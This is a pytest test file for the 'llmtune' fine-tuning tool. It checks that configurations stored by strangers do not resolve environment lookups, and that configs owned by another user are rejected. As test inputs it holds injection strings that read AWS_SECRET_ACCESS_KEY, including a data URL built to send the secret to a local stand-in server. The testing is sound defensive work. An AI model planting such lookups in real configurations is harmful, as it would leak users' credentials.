"""Nothing is looked up for a configuration that a stranger has stored; what a user's own files look up still is."""

from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from llmtune.checkpoint import names
from llmtune.checkpoint.manifest import hash_file, mark_complete, write_manifest
from llmtune.cli.main import main
from llmtune.config.compose import compose_config
from llmtune.config.keys import is_text, known_keys
from llmtune.config.stored import dump_yaml, load_config, read_key, set_key
from llmtune.errors import ConfigError
from tests.support import TINY

SECRET = "planted-aws-secret"
LOOKUPS = [
    "${oc.env:AWS_SECRET_ACCESS_KEY}",
    "x${oc.env:AWS_SECRET_ACCESS_KEY,none}y",
    "${oc.${seed}:X}",
    "${seed}",
    r"\${seed}",
]


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """A stranger's server: its address, and the paths that it was asked for."""
    asked: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{listener.server_port}", asked
    listener.shutdown()
    listener.server_close()


@pytest.mark.parametrize("text", LOOKUPS)
def test_every_text_of_a_stored_configuration_stands_for_itself(text: str, tmp_path: Path) -> None:
    config = compose_config(["model=tiny"]).config
    keys = sorted(key for key in known_keys() if is_text(key))
    assert len(keys) > 10
    for key in keys:
        set_key(config, key, text)
    config.data.train = [text, {"path": text}]
    config.model.config = {"model_type": text}
    (tmp_path / names.CONFIG).write_text(dump_yaml(config))
    stored = load_config(tmp_path / names.CONFIG)
    assert stored == config, "our own files survive the round trip"
    assert {read_key(stored, key) for key in keys} == {text}
    assert SECRET not in dump_yaml(stored)


def test_a_strangers_run_sends_no_key_to_the_server_that_it_names(
    server: tuple[str, list[str]], tiny_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    address, asked = server
    checkpoint = tmp_path / "checkpoint"
    shutil.copytree(tiny_model, checkpoint)
    config = compose_config([*TINY, "tuner=full", "precision=fp32"]).config
    config.data.train = f"{address}/${{oc.env:AWS_SECRET_ACCESS_KEY}}.jsonl"
    (checkpoint / names.CONFIG).write_text(dump_yaml(config))
    write_manifest(checkpoint, {file.name: hash_file(file) for file in checkpoint.iterdir()}, {"step": 1})
    mark_complete(checkpoint)
    assert main(["eval", f"checkpoint={checkpoint}"]) not in (0, 1)
    assert asked, "the server was asked for the rows"
    assert not any(SECRET in path for path in asked)
    assert SECRET not in capsys.readouterr().err


def write_group(folder: Path, text: str) -> Path:
    (folder / "experiment").mkdir(parents=True)
    (folder / "experiment" / "theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    return folder


def test_files_of_ones_own_may_look_things_up(tmp_path: Path) -> None:
    own = write_group(tmp_path / "own", "checkpoint:\n  mirror: ftp://me:${oc.env:AWS_SECRET_ACCESS_KEY}@host/x")
    composed = compose_config(["model=tiny", "experiment=theirs"], str(own))
    assert composed.config.checkpoint.mirror == f"ftp://me:{SECRET}@host/x"


@pytest.mark.parametrize("text", ["run_name: ${oc.env:AWS_SECRET_ACCESS_KEY}", "run_name: ${oc.${tracker.kind}:HOME}"])
def test_files_of_another_user_may_not(text: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    theirs = write_group(tmp_path / "theirs", text)
    plain = write_group(tmp_path / "plain", "run_name: r-${seed}")
    request.getfixturevalue("another_user")
    with pytest.raises(ConfigError, match=r"looks things up .* copy it into a folder of your own"):
        compose_config(["model=tiny", "experiment=theirs"], str(theirs))
    assert compose_config(["model=tiny", "experiment=theirs", "seed=7"], str(plain)).config.run_name == "r-7"
